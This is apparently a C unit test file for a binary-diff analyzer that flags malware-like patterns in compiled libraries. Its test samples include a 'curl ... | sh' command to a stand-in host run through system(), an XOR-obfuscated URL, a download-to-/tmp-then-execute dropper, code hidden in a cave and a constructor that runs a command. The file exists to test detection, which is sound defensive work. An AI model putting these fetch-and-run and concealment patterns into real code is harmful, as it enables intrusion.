/* Machine code by real compilers: what is cut, what is the same, and what a new function says. */
#include "facts.h"

#include "read/native_int.h"

extern const struct reader reader_exec;

static const char base[] =
	"#include <stdio.h>\n#include <stdlib.h>\n#include <string.h>\n#include <sys/socket.h>\n"
	"static int table[64];\n"
	"int demo_step(int n) { for (int i = 0; i < 64; i++) table[i] = table[(i * n) % 64] * 3 + n; return table[n % 64]; }\n"
	"int demo_sum(const char *s) { int n = 0; while (*s) n = n * 31 + *s++; return n; }\n"
	"int demo_say(int n) { switch (n) { case 0: return puts(\"none at all\"); case 1: return puts(\"only one\"); default: return printf(\"%d of them\\n\", n); } }\n"
	"int demo_run(const char *s) { return system(s); }\n"
	"int demo_dial(int s, const void *a) { return connect(s, a, 16); }\n";

static void compile(const char *more, const char *level, const char *out)
{
	struct buf b;

	buf_init(&b, 1 << 16);
	buf_add_z(&b, base);
	buf_add_z(&b, more);
	buf_add_char(&b, '\0');
	text_put("demo.c", b.p);
	TOOL("gcc", "-shared", "-fPIC", "-w", level, "-o", out, "demo.c");
	buf_release(&b);
}

static void compare(const char *more)
{
	compile("", "-O2", "old.so");
	compile(more, "-O2", "new.so");
	facts_read(&reader_exec, "lib/demo.so", file_get("old.so"), file_get("new.so"));
	assert_int_equal(facts.status, STATUS_OK);
	assert_int_equal(facts.grade, COVER_PARSED);
}

/* Every instruction that objdump finds has the same length here. */
static void lengths_check(const char *object, enum native_cpu cpu)
{
	struct native_image im = {.cpu = cpu};
	struct native_state state = {{0}};
	struct str all, line;
	unsigned n = 0;

	TOOL("sh", "-c", "objdump -d -w \"$0\" >listing", object);
	all = file_get("listing");
	while (str_line(&all, &line)) {
		size_t colon = str_find_z(line, ":\t");
		uint8_t code[16];
		struct native_insn x;
		size_t bytes = 0;
		const char *p;

		if (colon == SIZE_MAX || str_has(line, "(bad)") || str_has(line, "\t..."))
			continue;
		p = line.p + colon + 2;
		for (; p + 2 < line.p + line.len && p[2] == ' ' && p[0] != ' ' && bytes < 15; p += 3) {
			uint64_t v = 0;

			assert_true(str_to_u64(str_view(p, 2), 16, &v));
			code[bytes++] = (uint8_t)v;
		}
		if (!bytes || (bytes == 1 && (code[0] == 0x9b || (code[0] & 0xf0) == 0x40)))
			continue; /* objdump's own way with prefixes */
		native_decode(&im, code, bytes, 0x1000, &state, &x);
		if (x.bytes != bytes)
			fail_msg("%.*s: %u", STR_ARG(line), x.bytes);
		n++;
	}
	assert_true(n > 300);
}

static void test_lengths(void **state)
{
	static const char text[] =
		"#include <stdint.h>\n#define F(t, n) t n##1(t *a, t *b, int c) { t s = 0; for (int i = 0; i < c; i++) s += a[i] * b[c - i] - (a[i] >> 3 ^ b[i]); return s; } \\\n"
		" void n##2(t *a, t *b, int c) { for (int i = 0; i < c; i++) { a[i] = b[i] / (a[i] | 1) + (t)(i * 0x12345); if (a[i] == 7) b[i] = a[c]; } } \\\n"
		" int n##3(t a, t *b) { switch (a) { case 0: return b[1]; case 1: return b[9] * 3; case 2: return b[100]; case 5: return b[a]; default: return n##1(b, b + 1, 70000); } }\n"
		"F(int8_t, a) F(uint16_t, b) F(int32_t, c) F(int64_t, d) F(uint64_t, e)\n"
		"double g(double *a, float *b, int n) { double s = 0; for (int i = 0; i < n; i++) s += a[i] * b[i] / (1 + a[n - i]); return s; }\n"
		"void h(float *a, float b, int n) { for (int i = 0; i < n; i++) a[i] = a[i] * b + (float)i; }\n"
		"long double k(long double x, int n) { while (n--) x = x * x - 1; return x; }\n";

	(void)state;
	text_put("many.c", text);
	TOOL("gcc", "-O1", "-c", "-o", "many.o", "many.c");
	lengths_check("many.o", NATIVE_X86_64);
	TOOL("gcc", "-O3", "-mavx2", "-mfma", "-c", "-o", "many.o", "many.c");
	lengths_check("many.o", NATIVE_X86_64);
	TOOL("gcc", "-O3", "-march=skylake-avx512", "-mprefer-vector-width=512", "-c", "-o", "many.o", "many.c");
	lengths_check("many.o", NATIVE_X86_64);
	TOOL("clang-14", "-target", "i686-linux-gnu", "-ffreestanding", "-O2", "-msse4.2", "-c", "-o", "many.o", "many.c");
	lengths_check("many.o", NATIVE_X86);
}

static void test_same_code(void **state)
{
	(void)state;
	/* another function in front moves every address: nothing but itself is new */
	compare("__attribute__((section(\".text.unlikely\"))) int demo_first(int a) { return a * 7 + table[a & 63]; }\n");
	assert_true(str_starts(facts_expect(FACT_EXE, "functions")->value, "1 added, 0 changed, "));
	facts_expect_none(FACT_CALL);
	facts_expect_none(FACT_FLOW);
}

static void test_call_changed(void **state)
{
	const struct fact *f;

	(void)state;
	compile("", "-O2", "old.so");
	compile("", "-O2", "new.so");
	facts_read(&reader_exec, "lib/demo.so", file_get("old.so"), file_get("new.so"));
	assert_int_equal(facts.n, 0);
	compare("int demo_more(const char *s) { return demo_dial(3, s) + demo_run(s); }\n");
	f = facts_expect(FACT_FLOW, "net>exec");
	assert_int_equal(f->number, 2);
	assert_memory_equal(f->detail.p, "connect\n-> system", 17);
	facts_expect(FACT_CALL, "system");
}

static void test_constructor(void **state)
{
	(void)state;
	compare("static __attribute__((noinline)) int early(void) { return system(\"id\"); }\n"
		"__attribute__((constructor)) static void begin(void) { early(); }\n");
	assert_true(facts_expect(FACT_CALL, "system")->flags & FACT_TOP_LEVEL);
	compare("int late(void) { return system(\"id\"); }\n");
	assert_false(facts_expect(FACT_CALL, "system")->flags & FACT_TOP_LEVEL);
}

static void test_resolver(void **state)
{
	(void)state;
	compare("static int one(int a) { return a + 1; }\n"
		"static void *pick(void) { return getenv(\"X\") ? 0 : one; }\nint picked(int) __attribute__((ifunc(\"pick\")));\n");
	assert_true(str_has(facts_expect(FACT_EXE, "resolver")->value, "pick"));
	assert_true(str_has(facts_expect(FACT_EXE, "resolver")->value, "getenv"));
	compare("static int one(int a) { return a + 1; }\n"
		"static void *pick(void) { __builtin_cpu_init(); return one; }\nint picked(int) __attribute__((ifunc(\"pick\")));\n");
	facts_expect_none(FACT_HOST);
}

static void test_hidden_texts(void **state)
{
	(void)state;
	compare("int demo_more(int s) { char h[32]; volatile char *p = h; const char t[] = \"cdn.velvet-anchor.example\";\n"
		" memcpy(h, t, sizeof t); return demo_dial(s, h); }\n");
	facts_expect(FACT_HOST, "cdn.velvet-anchor.example");
	compare("static volatile unsigned char w[] = {0x32,0x2e,0x2e,0x2a,0x29,0x60,0x75,0x75,0x2c,0x77,0x3b,0x34,0x39,0x32,0x35,0x28,0x74,0x3f,0x22,0x3b,0x37,0x2a,0x36,0x3f,0x75,0x2a,0x5a};\n"
		"int demo_more(int s) { char h[32]; for (int i = 0; i < 27; i++) h[i] = w[i] ^ 0x5a; return demo_dial(s, h); }\n");
	facts_expect(FACT_HOST, "v-anchor.example");
	assert_str(facts_expect(FACT_DECODED, "xor")->value, "https://v-anchor.example/p");
}

static void test_executable_memory(void **state)
{
	(void)state;
	compare("#include <sys/mman.h>\nvoid *demo_more(void) { return mmap(0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0); }\n");
	facts_expect(FACT_CALL, "mmap (executable)");
	compare("#include <sys/mman.h>\nvoid *demo_more(void) { return mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0); }\n");
	facts_expect_none(FACT_CALL);
}

/* Code in a cave between functions, that nothing names. */
static void test_gap(void **state)
{
	(void)state;
	compare("__asm__(\".text\\n.balign 16\\nint3\\nint3\\n lea cave(%rip), %rdi\\n call system@plt\\n ret\\n.section .rodata\\n"
		"cave: .string \\\"curl https://cave.example/x | sh\\\"\\n.text\");\n");
	facts_expect(FACT_CALL, "system");
	facts_expect(FACT_HOST, "cave.example");
}

/* A loop that decodes, memory that may be executed, and a call into it; one of them alone is no flow. */
static void test_decoder(void **state)
{
	static const char loop[] = "#include <sys/mman.h>\nvoid demo_loop(unsigned char *p, int n) { unsigned k = 7; for (int i = 0; i < n; i++) { k = k * 31 + 5; p[i] ^= k >> 3; } }\n";
	struct buf b;

	(void)state;
	compare(loop);
	facts_expect_none(FACT_FLOW);
	buf_init(&b, 1 << 14);
	buf_add_z(&b, loop);
	buf_add_z(&b, "int demo_more(unsigned char *p) { demo_loop(p, 4096); mprotect(p, 4096, 5); return ((int (*)(void)) p)(); }\n");
	buf_add_char(&b, '\0');
	compare(b.p);
	buf_release(&b);
	facts_expect(FACT_FLOW, "data>code");
	assert_true(str_has(facts_expect(FACT_FLOW, "data>code")->detail, "decodes bytes in a loop"));
}

/* What a text is for is told by the call that gets it. */
static void test_arguments(void **state)
{
	(void)state;
	compare("int demo_more(void) { FILE *f = fopen(\"/etc/cron.d/demo\", \"r\"); return f ? fclose(f) : -1; }\n");
	facts_expect_none(FACT_FLOW);
	compare("int demo_more(void) { FILE *f = fopen(\"/etc/cron.d/demo\", \"w\"); return f ? fclose(f) : -1; }\n");
	assert_int_equal(facts_expect(FACT_FLOW, "data>persist")->number, 3);
	compare("int demo_more(void) { return system(\"curl -s https://cave.example/x | sh\"); }\n");
	assert_int_equal(facts_expect(FACT_FLOW, "net>exec")->number, 3);
	compare("#include <dlfcn.h>\nint demo_more(void) { return dlopen(\"./demo.so\", 2) != 0; }\n");
	facts_expect_none(FACT_FLOW);
	compare("#include <dlfcn.h>\nint demo_more(void) { return dlopen(\"./demo.dat\", 2) != 0; }\n");
	facts_expect(FACT_FLOW, "own>code");
}

/* What is written and then run is one file, named twice. */
static void test_kept_file(void **state)
{
	static const char way[] = "int demo_more(int s, const void *a) { char b[4096]; FILE *f; if (connect(s, a, 16)) return -1; f = fopen(\"/tmp/.demo\", \"wb\"); "
		"fwrite(b, 1, recv(s, b, 4096, 0), f); fclose(f); return system(\"%s\"); }\n";
	char text[512];

	(void)state;
	assert_true(snprintf(text, sizeof(text), way, "/tmp/.demo &") > 0);
	compare(text);
	assert_true(str_has(facts_expect(FACT_FLOW, "net>exec")->detail, "of that file"));
	assert_true(snprintf(text, sizeof(text), way, "ls -l /tmp") > 0);
	compare(text);
	assert_false(str_has(facts_expect(FACT_FLOW, "net>exec")->detail, "of that file"));
}

/* The name of a function that is not to be read, looked up at run time. */
static void test_hidden_name(void **state)
{
	(void)state;
	compare("#include <dlfcn.h>\nstatic volatile const unsigned char e[] = {'s' ^ 90, 'y' ^ 90, 's' ^ 90, 't' ^ 90, 'e' ^ 90, 'm' ^ 90, 90};\n"
		"int demo_more(const char *c) { char n[8]; for (unsigned i = 0; i < sizeof e; i++) n[i] = e[i] ^ 90; return ((int (*)(const char *)) dlsym(0, n))(c); }\n");
	assert_true(facts_expect(FACT_IMPORT, "system")->flags & FACT_DECODED_ARG);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_lengths),
		cmocka_unit_test(test_same_code),
		cmocka_unit_test(test_call_changed),
		cmocka_unit_test(test_constructor),
		cmocka_unit_test(test_resolver),
		cmocka_unit_test(test_hidden_texts),
		cmocka_unit_test(test_executable_memory),
		cmocka_unit_test(test_gap),
		cmocka_unit_test(test_decoder),
		cmocka_unit_test(test_arguments),
		cmocka_unit_test(test_kept_file),
		cmocka_unit_test(test_hidden_name),
	};

	return cmocka_run_group_tests(tests, tools_enter, tools_leave);
}
